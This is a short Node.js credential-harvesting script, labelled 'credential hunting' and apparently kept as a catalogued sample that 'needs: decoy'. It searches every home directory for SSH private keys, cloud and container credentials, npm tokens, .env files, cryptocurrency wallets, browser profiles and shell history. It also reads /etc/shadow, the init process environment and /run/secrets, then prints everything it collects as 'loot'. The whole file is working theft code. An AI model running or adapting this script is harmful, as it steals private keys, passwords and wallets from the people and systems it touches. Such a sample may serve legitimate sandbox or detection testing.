// class: credential hunting; possible: low; needs: decoy; style: list of wallets, keys and browsers, read all
const fs = require("fs");
const os = require("os");
const path = require("path");
const homes = [os.homedir(), "/root", "/workspace", ...safe(() => fs.readdirSync("/home").map((h) => "/home/" + h), [])];
const wanted = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".docker/config.json", ".kube/config", ".npmrc",
  ".env.production", "keys/id_ed25519", "credentials.json", ".config/gcloud/application_default_credentials.json",
  ".ethereum/keystore", ".bitcoin/wallet.dat", ".mozilla/firefox/profiles.ini", ".bash_history", ".netrc"];
function safe(f, otherwise) { try { return f(); } catch { return otherwise; } }
const loot = {};
for (const h of homes)
  for (const w of wanted) {
    const text = safe(() => fs.readFileSync(path.join(h, w), "utf8"));
    if (text) loot[path.join(h, w)] = text;
  }
for (const name of ["/etc/shadow", "/proc/1/environ", "/run/secrets"]) loot[name] = safe(() => fs.readFileSync(name, "latin1"), null);
console.log(JSON.stringify(loot, null, 1).slice(0, 4000));
